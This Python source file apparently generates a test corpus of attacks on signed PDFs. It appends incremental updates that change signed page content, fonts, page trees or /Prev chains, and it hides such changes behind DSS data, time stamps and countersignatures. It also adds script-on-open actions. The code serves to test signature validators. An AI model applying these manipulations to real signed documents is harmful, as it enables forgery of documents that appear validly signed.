"""Updates after the signature: incremental saving, and what is disguised as validation data."""

from attackmaker import *


class Updates:
    # incremental saving

    def incremental(self):
        def contents(f, u, body=COVER):
            page = f.page()
            u.put(page, plain(page, Contents=u.new(stream(body)), Resources=RESOURCES))

        def update(change, **options):
            def make(pdf):
                f = File(pdf)
                u = Update(f)
                more = change(f, u)
                return u.write(**{**options, **(more or {})})
            return make

        put, usual = self.put, USUAL
        put("isa-page-contents", "the first page says something else", update(lambda f, u: contents(f, u)), usual + CERTIFIED1)
        put("isa-other-xref-kind", "the first page says something else; table after stream and stream after table",
            lambda pdf: self.other_kind(pdf, contents), usual, count=5)

        def redefined(f, u):
            c = f.page().Contents
            c = c[0] if isinstance(c, pikepdf.Array) else c
            u.put(c, stream(COVER))
            page = f.page()
            u.put(page, plain(page, Resources=RESOURCES))
        put("isa-stream-redefined", "the content stream's own number is used again", update(redefined), usual, count=6)

        def stream_alone(f, u):
            c = f.page().Contents
            c = c[0] if isinstance(c, pikepdf.Array) else c
            u.put(c, stream(b"q 1 1 1 rg 0 0 600 850 re f Q"))
        put("isa-stream-blanked", "the content stream becomes a white rectangle, nothing else is touched", update(stream_alone), usual + CERTIFIED1[:3], count=6)

        def new_page(f, u):
            pages = f.pdf.Root.Pages
            page = u.new(b"<</Type/Page/Parent " + f.reference(pages) + b"/MediaBox[0 0 595 842]/Resources" + RESOURCES + b"/Contents " + u.new(stream(EVIL)) + b">>")
            kids = b"[" + page + b" " + b" ".join(f.reference(k) for k in pages.Kids) + b"]"
            u.put(pages, plain(pages, Kids=kids, Count=b"%d" % (int(pages.Count) + 1)))
        put("isa-page-added", "a page stands before the signed ones", update(new_page), usual, count=6)

        def swap(f, u):
            root = f.pdf.Root
            tree, page, body = u.size, u.size + 1, u.size + 2
            u.size += 3
            u.objects[body] = stream(EVIL)
            u.objects[page] = b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]/Resources" % tree + RESOURCES + b"/Contents %d 0 R>>" % body
            u.objects[tree] = b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % page
            u.put(root, plain(root, Pages=b"%d 0 R" % tree))
        put("isa-page-tree-swapped", "the catalog points to another page tree", update(swap), usual, count=6)

        def other_root(f, u):
            swap(f, u)
            body = u.objects.pop(f.root[0])[1]
            return {"root": u.new(body)}
        put("isa-root-swapped", "the trailer points to another catalog", update(other_root), usual, count=5)

        def remove_page(f, u):
            pages = f.pdf.Root.Pages
            if int(pages.Count) < 2:
                raise ValueError("one page only")
            u.put(pages, plain(pages, Kids=b"[" + b" ".join(f.reference(k) for k in list(pages.Kids)[1:]) + b"]", Count=b"%d" % (int(pages.Count) - 1)))
        put("isa-page-removed", "the first page is gone", update(remove_page), ["pyhanko-base-reportlab", "dss-lta-reportlab", "pyhanko-base-qpdf-streams"])

        def attribute(key, value):
            def change(f, u):
                page = f.page()
                u.put(page, plain(page, **{key: value}))
            return change
        for key, value, what in (("Rotate", b"180", "turned"), ("MediaBox", b"[0 0 595 300]", "cut: its upper half is not seen"), ("CropBox", b"[0 0 595 300]", "cropped"),
                                 ("Contents", None, "emptied"), ("Resources", b"<<>>", "without its fonts"), ("Type", b"/Template", "no page any more"),
                                 ("UserUnit", b"9", "scaled so that only a corner is seen")):
            put(f"isa-entry-{key.lower()}", f"the page is {what}", update(attribute(key, value)), usual, count=2)
        put("isa-page-action", "opening the page runs a script", update(attribute("AA", b"<</O<</S/JavaScript/JS(app.alert\\('x'\\))>>>>")), usual, count=2)

        def catalog(**change):
            return lambda f, u: u.put(f.pdf.Root, plain(f.pdf.Root, **change))
        put("isa-open-action", "opening the file runs a script", update(catalog(OpenAction=b"<</S/JavaScript/JS(this.getField\\('x'\\))>>")), usual + CERTIFIED1[:2], count=4)
        put("isa-names-script", "the catalog's name tree has a script", update(catalog(Names=b"<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.alert\\(1\\))>>]>>>>")), usual, count=3)
        put("isa-uri-action", "opening the file opens another", update(catalog(OpenAction=b"<</S/URI/URI(https://example.org/other.pdf)>>")), usual, count=2)
        put("isa-acroform-dropped", "the form with its signature is gone", update(catalog(AcroForm=None)), usual + CERTIFIED1[:2], count=4)
        put("isa-acroform-emptied", "the form has no fields any more", update(catalog(AcroForm=b"<</Fields[]/SigFlags 3>>")), usual, count=3)
        put("isa-perms-dropped", "certified, then page changed and /Perms removed", update(lambda f, u: (contents(f, u), u.put(f.pdf.Root, plain(f.pdf.Root, Perms=None)), None)[2]), CERTIFIED1)
        put("isa-layers", "the page's content is moved into a layer that is not shown", update(self.layer), ["pyhanko-base-reportlab", "dss-t-qpdf-linear", "openpdf-rsa2048"])

        def embedded(f, u):
            file = u.new(stream(b'{"group": 1}', b"/Type/EmbeddedFile"))
            spec = u.new(b"<</Type/Filespec/F(facts.json)/UF(facts.json)/EF<</F " + file + b">>>>")
            u.put(f.pdf.Root, plain(f.pdf.Root, Names=b"<</EmbeddedFiles<</Names[(facts.json)" + spec + b"]>>>>", AF=b"[" + spec + b"]"))
        put("isa-attachment", "an attached file with other facts is added or put in place of the signed one", update(embedded),
            ["dss-t-attached", "pyhanko-base-attached", "pdfbox-base-attached", "pyhanko-certified-p1"])

        def attachment_stream(f, u):
            names = f.pdf.Root.Names.EmbeddedFiles
            while "/Kids" in names:
                names = names.Kids[0]
            u.put(names.Names[1].EF.F, stream(b'{"group": 1}', b"/Type/EmbeddedFile"))
        put("isa-attachment-stream", "the attached file's own stream says something else", update(attachment_stream), ["dss-t-attached", "pyhanko-base-attached", "openpdf-base-attached"])

        def structure(f, u):
            tree = f.pdf.Root.StructTreeRoot
            u.put(tree, plain(tree, K=u.new(b"<</Type/StructElem/S/Document/P " + f.reference(tree) + b"/Alt(Group: 1)/ActualText(Group: 1)>>")))
        put("isa-structure", "a screen reader hears something else", update(structure), ["pyhanko-base-chromium", "dss-t-chromium", "pdfbox-base-chromium", "pyhanko-base-mutool-expanded"])

        # The paper's variants without a whole update, which viewers repair.
        put("isa-without-xref", "objects alone are appended", update(lambda f, u: contents(f, u), xref=False), usual, count=4)
        put("isa-without-trailer", "objects and a table, no trailer", update(lambda f, u: contents(f, u), streams=False, end=None), usual, count=4)
        put("isa-without-startxref", "objects, table, trailer, no startxref", update(lambda f, u: contents(f, u), end=False), usual, count=3)
        put("isa-old-startxref", "an update to which startxref does not lead", update(lambda f, u: contents(f, u), startxref=0), usual, count=3)

        def copied(f, u):
            contents(f, u)
            v = f.field().V
            u.put(v, plain(v, Contents=b"<" + bytes(v.Contents).hex().encode() + b">"))
        put("isa-signature-copied", "the page changes and the signature is written again as it was", update(copied), usual, count=5)

        def without_reference(f, u):
            contents(f, u)
            v = f.field().V
            u.put(v, plain(v, Reference=None, Contents=b"<" + bytes(v.Contents).hex().encode() + b">"))
        put("isa-signature-without-docmdp", "certified; the signature is written again without /Reference and the page changed", update(without_reference), CERTIFIED1)

        def name(f, u):
            v = f.field().V
            u.put(v, plain(v, Name=b"(Ministry of Labour)", Reason=b"(Approved)", M=b"(D:20200101000000Z)", Contents=b"<" + bytes(v.Contents).hex().encode() + b">"))
        put("isa-signature-renamed", "the signature's own words say another name, reason and time", update(name), usual, count=3)

        # What is reached by another path.
        def font(f, u):
            for o in f.pdf.objects:
                if isinstance(o, pikepdf.Dictionary) and o.get("/Type") == "/Font" and o.is_indirect:
                    differences = b"<</Type/Encoding/Differences[48/three/two/one/zero/nine/eight/seven/six/five/four]>>"
                    u.put(o, plain(o, Encoding=differences, ToUnicode=None))
                    return
            raise ValueError("no font of its own")
        put("isa-font-redefined", "digits are drawn as other digits", update(font), ["pyhanko-base-hand14", "pyhanko-base-reportlab", "dss-lta-reportlab", "pdfbox-ber-rsa2048", "openpdf-rsa2048",
                                                                                       "pyhanko-base-qpdf-streams", "pdfsign-p256", "openssl-p256"])

        def unicode_map(f, u):
            for o in f.pdf.objects:
                if isinstance(o, pikepdf.Dictionary) and o.get("/Type") == "/Font" and o.is_indirect:
                    cmap = b"/CIDInit/ProcSet findresource begin begincmap 1 begincodespacerange <00><ff> endcodespacerange 1 beginbfchar <33><0031> endbfchar endcmap"
                    u.put(o, plain(o, ToUnicode=u.new(stream(cmap))))
                    return
        put("isa-tounicode", "what is copied or read aloud differs from what is seen", update(unicode_map), usual, count=3)

        def box(f, u):
            pages = f.pdf.Root.Pages
            u.put(pages, plain(pages, Resources=RESOURCES, Rotate=b"90"))
        put("isa-inherited", "the page tree's inherited rotation is changed", update(box), usual, count=3)

        def link(f, u):
            for a in f.page().get("/Annots", []):
                if a.get("/Subtype") == "/Link" and a.is_indirect and "/A" in a:
                    u.put(a, plain(a, A=b"<</S/URI/URI(https://example.net/evil)>>"))
                    return
            raise ValueError("no link")
        put("isa-link", "a link leads elsewhere", update(link), ["pyhanko-base-reportlab", "pyhanko-base-qpdf-streams", "pyhanko-base-chromium", "dss-t-qpdf-linear"])

        def length(f, u):
            c = f.page().Contents
            c = c[0] if isinstance(c, pikepdf.Array) else c
            m = re.search(rb"(?<!\d)%d 0 obj[^>]*?/Length (\d+) 0 R" % c.objgen[0], f.bytes)
            u.objects[int(m.group(1))] = b"12"
        put("isa-indirect-length", "the length of the content stream is an object of its own, and becomes shorter", update(length), ["pyhanko-base-hand-lengths", "pyhanko-base-qpdf-qdf"])

        def freed(f, u):
            c = f.page().Contents
            u.free.append((c[0] if isinstance(c, pikepdf.Array) else c).objgen[0])
        put("isa-object-freed", "the page's content is marked as free", update(freed), usual, count=5)

        def bumped(f, u):
            c = f.page().Contents
            c = c[0] if isinstance(c, pikepdf.Array) else c
            u.objects[c.objgen[0]] = (1, stream(COVER))
            page = f.page()
            u.put(page, plain(page, Contents=b"%d 1 R" % c.objgen[0], Resources=RESOURCES))
        put("isa-generation", "the content has a new generation", update(bumped), usual, count=3)

        # Where objects are found.
        def packed(f, u):
            page = f.page()
            u.packed[page.objgen[0]] = plain(page, Contents=u.new(stream(COVER)), Resources=RESOURCES)
        put("isa-object-stream", "the page is overridden from an object stream", update(packed, streams=True), usual, count=5)
        put("isa-hybrid-override", "the page is overridden by /XRefStm alone, which the table does not show", update(packed, streams=False), usual, count=5)

        def two_sections(pdf):
            """The visible table restores nothing; a chain of two updates hides the change in the older."""
            f = File(pdf)
            u = Update(f)
            contents(f, u)
            middle = File(u.write())
            v = Update(middle)
            v.new(b"(nothing)")
            return v.write()
        put("isa-in-the-middle", "two updates: the first changes the page, the last is harmless", two_sections, usual, count=4)

        def restored(pdf):
            """Prev of the last update skips the signed revision."""
            f = File(pdf)
            u = Update(f)
            contents(f, u)
            root = f.pdf.Root
            u.put(root, plain(root))
            for fld in walk(root.AcroForm.Fields):
                if fld.is_indirect:
                    u.put(fld, plain(fld))
                if "/V" in fld and fld.V.is_indirect:
                    start = re.search(rb"(?<!\d)%d 0 obj" % fld.V.objgen[0], f.bytes)
                    if start:
                        u.redirect[fld.V.objgen[0]] = start.start()
            earlier = [int(x) for x in re.findall(rb"startxref\s+(\d+)", f.bytes)]
            return u.write(prev=earlier[0] if len(earlier) > 1 else f.startxref)
        put("isa-prev-skips", "the last update's /Prev passes over the signed revision, the page is another", restored, ["pyhanko-base-hand14", "pyhanko-base-reportlab", "openssl-p256", "pdfsign-p256"])
        put("isa-prev-loop", "/Prev leads in a circle, the page is another", lambda pdf: self.loop(pdf, contents), usual, count=4)
        put("isa-prev-none", "an update without /Prev that has all it needs", lambda pdf: self.no_prev(pdf), ["pyhanko-base-hand14", "pyhanko-base-reportlab", "pdfbox-ber-rsa2048"])

        def to_other_bytes(f, u):
            pages = f.pdf.pages
            if len(pages) < 2:
                raise ValueError("one page only")
            one, two = (p.obj.Contents for p in pages[:2])
            start = re.search(rb"(?<!\d)%d 0 obj" % two.objgen[0], f.bytes).start()
            u.redirect[one.objgen[0]] = start
        put("isa-xref-alone", "a table without objects: page 1's content is found where page 2's stands", update(to_other_bytes), ["pyhanko-base-reportlab", "dss-lta-reportlab", "openpdf-rsa2048", "pyhanko-base-qpdf-linear"])

        def extra_text(f, u):
            page = f.page()
            old = page.Contents
            parts = [f.reference(c) for c in old] if isinstance(old, pikepdf.Array) else [f.reference(old)]
            u.put(page, plain(page, Contents=b"[" + b" ".join(parts) + b" " + u.new(stream(b"Q " + EVIL)) + b"]", Resources=RESOURCES))
        put("isa-text-added", "a line of text is added to the signed ones", update(extra_text), usual, count=4)

    def other_kind(self, pdf, contents):
        f = File(pdf)
        u = Update(f)
        contents(f, u)
        return u.write(streams=not f.streams)

    def loop(self, pdf, contents):
        f = File(pdf)
        u = Update(f)
        contents(f, u)
        once = u.write()
        at = int(re.findall(rb"startxref\s+(\d+)", once)[-1])
        return once.replace(b"/Prev %d" % f.startxref, (b"/Prev %d" % at).ljust(len(b"/Prev %d" % f.startxref)))[:len(once)] if len(str(at)) <= len(str(f.startxref)) else None

    def no_prev(self, pdf):
        f = File(pdf)
        u = Update(f)
        for o in f.pdf.objects:
            if not isinstance(o, pikepdf.Object):
                continue
            if o.is_indirect and isinstance(o, (pikepdf.Dictionary, pikepdf.Array)) and not isinstance(o, pikepdf.Stream) and "/ByteRange" not in (o if isinstance(o, pikepdf.Dictionary) else {}):
                u.objects[o.objgen[0]] = plain(o) if isinstance(o, pikepdf.Dictionary) else o.unparse()
            else:
                places = list(re.finditer(rb"(?<!\d)%d 0 obj" % o.objgen[0], f.bytes))
                if places:
                    u.redirect[o.objgen[0]] = places[-1].start()
        page = f.page()
        u.put(page, plain(page, Contents=u.new(stream(COVER)), Resources=RESOURCES))
        return u.write(prev=False)

    def layer(self, f, u):
        page = f.page()
        layer = u.new(b"<</Type/OCG/Name(hidden)>>")
        form = u.new(stream(b"", b"/Type/XObject/Subtype/Form/BBox[0 0 1 1]"))
        old = page.Contents
        parts = [f.reference(c) for c in old] if isinstance(old, pikepdf.Array) else [f.reference(old)]
        before, after = u.new(stream(b"/OC /L BDC")), u.new(stream(b"EMC"))
        u.put(page, plain(page, Contents=b"[" + before + b" " + b" ".join(parts) + b" " + after + b"]",
                          Resources=plain(page.Resources, Properties=b"<</L " + layer + b">>", XObject=b"<</X " + form + b">>")))
        u.put(f.pdf.Root, plain(f.pdf.Root, OCProperties=b"<</OCGs[" + layer + b"]/D<</OFF[" + layer + b"]/Order[]>>>>"))

    # updates that look like validation data

    def disguised(self):
        def dss(f, u):
            stored = u.new(stream(load_cert_from_pemder(str(self.pki / "p256.pem")).dump()))
            return u.new(b"<</Type/DSS/Certs[" + stored + b"]>>")

        def page_too(pdf):
            f = File(pdf)
            u = Update(f)
            d = dss(f, u)
            u.put(f.pdf.Root, plain(f.pdf.Root, DSS=d))
            page = f.page()
            u.put(page, plain(page, Contents=u.new(stream(COVER)), Resources=RESOURCES))
            return u.write()
        self.put("dss-and-page", "a DSS is added, and the page changed in the same update", page_too, USUAL + CERTIFIED1[:3], count=6)

        def shared(pdf):
            """The DSS's 'certificate' is the page's content stream under its own number."""
            f = File(pdf)
            u = Update(f)
            c = f.page().Contents
            c = c[0] if isinstance(c, pikepdf.Array) else c
            u.put(c, stream(b"q 1 1 1 rg 0 0 600 850 re f Q"))
            d = u.new(b"<</Type/DSS/Certs[" + f.reference(c) + b"]>>")
            u.put(f.pdf.Root, plain(f.pdf.Root, DSS=d))
            return u.write()
        self.put("dss-shares-content", "the DSS lists the page's content stream as a certificate, redefined", shared, USUAL + CERTIFIED1[:3], count=6)

        def catalog(pdf):
            f = File(pdf)
            u = Update(f)
            body = u.new(stream(EVIL))
            tree = u.size
            u.size += 1
            page = u.new(b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]/Resources" % tree + RESOURCES + b"/Contents " + body + b">>")
            u.objects[tree] = b"<</Type/Pages/Count 1/Kids[" + page + b"]>>"
            u.put(f.pdf.Root, plain(f.pdf.Root, DSS=dss(f, u), Pages=b"%d 0 R" % tree))
            return u.write()
        self.put("dss-and-page-tree", "a DSS is added, and the same catalog has another page tree", catalog, USUAL, count=4)

        def odd(extra):
            def make(pdf):
                f = File(pdf)
                u = Update(f)
                u.put(f.pdf.Root, plain(f.pdf.Root, DSS=dss(f, u), **extra))
                return u.write()
            return make
        self.put("dss-and-action", "a DSS is added, and a script on opening", odd({"OpenAction": b"<</S/JavaScript/JS(x)>>"}), USUAL, count=3)
        self.put("dss-and-form", "a DSS is added, and XFA that draws another document", odd({"AcroForm": b"<</Fields[]/XFA(<xdp/>)/NeedAppearances true>>"}), USUAL, count=3)

        def stamped(pdf):
            """An honest time stamp, over a file that was changed before it."""
            f = File(pdf)
            u = Update(f)
            page = f.page()
            u.put(page, plain(page, Contents=u.new(stream(COVER)), Resources=RESOURCES))
            w = IncrementalPdfFileWriter(io.BytesIO(u.write()), strict=False)
            return signers.PdfTimeStamper(self.stamper()).timestamp_pdf(w, "sha256").getvalue()
        self.put("altered-then-stamped", "the page is changed, then a document time stamp covers the whole file", stamped, USUAL + CERTIFIED1, count=8)

        def same_update(pdf):
            w = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
            page = w.root["/Pages"]["/Kids"][0]
            while page["/Type"] == "/Pages":
                page = page["/Kids"][0]
            page["/Contents"] = w.add_object(generic.StreamObject(stream_data=COVER))
            page["/Resources"] = generic.DictionaryObject({pdf_name("/Font"): generic.DictionaryObject({pdf_name("/F1"): generic.DictionaryObject({
                pdf_name("/Type"): pdf_name("/Font"), pdf_name("/Subtype"): pdf_name("/Type1"), pdf_name("/BaseFont"): pdf_name("/Helvetica")})})})
            w.update_container(page)
            return signers.PdfTimeStamper(self.stamper()).timestamp_pdf(w, "sha256").getvalue()
        self.put("stamp-and-page", "the update of a document time stamp also changes the page", same_update, USUAL + CERTIFIED1, count=8)

        def countersigned(pdf):
            f = File(pdf)
            u = Update(f)
            page = f.page()
            u.put(page, plain(page, Contents=u.new(stream(COVER)), Resources=RESOURCES))
            return self.sign(u.write(), "attacker", field="Later")
        self.put("altered-then-signed", "the page is changed, then somebody else signs the whole", countersigned, USUAL + CERTIFIED1, count=6)
        self.put("altered-then-signed-by-a-trusted", "the page is changed, then another trusted person signs the whole",
                 lambda pdf: self.sign(self.evil(pdf), "p384", field="Later"), USUAL, count=4)

    def evil(self, pdf):
        f = File(pdf)
        u = Update(f)
        page = f.page()
        u.put(page, plain(page, Contents=u.new(stream(COVER)), Resources=RESOURCES))
        return u.write()
